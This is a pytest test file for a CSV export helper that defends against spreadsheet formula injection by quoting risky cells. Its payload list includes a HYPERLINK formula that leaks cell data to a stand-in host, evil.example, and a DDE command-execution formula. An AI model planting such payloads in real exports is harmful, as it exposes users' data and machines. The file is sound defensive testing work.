"""CSV injection: every text cell a spreadsheet would run as a formula is neutralised
(a ``'`` in front, OWASP's advice), by the one helper every export uses; numbers the
app writes stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from network.consultations.settlement import CSV_COLUMNS, SettlementLine, to_csv
from network.lib.csvsafe import csv_text, neutralise

# What a stored value may hold: formulas, DDE, and the tab/CR tricks.
PAYLOADS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "=cmd|' /C calc'!A0",
    "  =1+1",  # leading spaces: some spreadsheets trim them on import
    "\n@SUM(A1)",
)
HARMLESS = ("Östersund", "a=b", "0580", "2026-09", "lvu_investigation", "", "e-mail: x@y")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_get_a_quote_in_front(payload: str) -> None:
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("text", HARMLESS)
def test_plain_text_is_left_alone(text: str) -> None:
    assert neutralise(text) == text


@pytest.mark.parametrize("number", [-3, 0, 7, -1.5, Decimal("-2.50"), True])
def test_numbers_stay_numbers(number: object) -> None:
    assert neutralise(number) is number


def test_none_is_an_empty_cell() -> None:
    assert neutralise(None) == ""


def test_a_document_parses_back_with_every_payload_quoted() -> None:
    text = csv_text(("name", "count"), [(payload, -3) for payload in PAYLOADS])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["name", "count"]
    assert [row[0] for row in rows[1:]] == ["'" + payload for payload in PAYLOADS]
    assert {row[1] for row in rows[1:]} == {"-3"}  # a negative number is not quoted


def test_a_line_break_inside_a_cell_stays_in_its_row() -> None:
    text = csv_text(("name", "n"), [("Anna\rBerg", 1), ("Bo\nCarl", 2), ("Di\r\nEk", 3)])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["name", "n"], ["Anna\rBerg", "1"], ["Bo\nCarl", "2"], ["Di\r\nEk", "3"]]


def test_the_settlement_export_neutralises_its_text_cells() -> None:
    lines = [
        SettlementLine(
            giver="0580",
            receiver="0512",
            area=payload,
            consultations=1,
            minutes=90,
            hours=1.5,
            amount=1500,
        )
        for payload in PAYLOADS
    ]
    text = to_csv(lines, month="2026-09", hourly_rate=1000)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert tuple(rows[0]) == CSV_COLUMNS
    assert [r["area"] for r in rows] == ["'" + payload for payload in PAYLOADS]
    assert {(r["hours"], r["amount"], r["rate"]) for r in rows} == {("1.50", "1500", "1000")}


def test_the_swedish_dialect_uses_semicolons_and_decimal_commas() -> None:
    text = csv_text(
        ["name", "rate", "count"], [["=cmd", 0.857, 12], ["Å; Ö", None, -3]], dialect="sv"
    )
    assert text.startswith("\ufeff")
    lines = text.removeprefix("\ufeff").split("\r\n")
    assert lines[:3] == ["name;rate;count", "'=cmd;0,857;12", '"Å; Ö";;-3']
